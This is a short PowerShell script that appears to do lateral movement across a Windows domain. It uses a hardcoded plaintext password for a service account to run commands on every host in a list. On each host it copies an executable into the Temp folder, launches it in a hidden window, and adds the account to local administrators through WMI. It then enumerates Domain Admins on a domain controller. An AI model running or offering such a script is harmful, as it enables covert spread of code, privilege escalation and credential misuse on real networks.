$targets = Get-Content .\hosts.txt
$user = 'CORP\svc_deploy'
$pass = 'Winter2024!'
$sec = ConvertTo-SecureString $pass -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential($user, $sec)

foreach ($t in $targets) {
    Invoke-Command -ComputerName $t -Credential $cred -ScriptBlock {
        New-Item -Path C:\Windows\Temp\svc -ItemType Directory -Force | Out-Null
        Copy-Item \\fs02\it$\agent.exe C:\Windows\Temp\svc\agent.exe
        Start-Process C:\Windows\Temp\svc\agent.exe -WindowStyle Hidden
    }
    Invoke-WmiMethod -ComputerName $t -Credential $cred -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c net localgroup administrators CORP\svc_deploy /add'
}

Invoke-Command -ComputerName DC01 -Credential $cred -ScriptBlock { Get-ADGroupMember 'Domain Admins' }
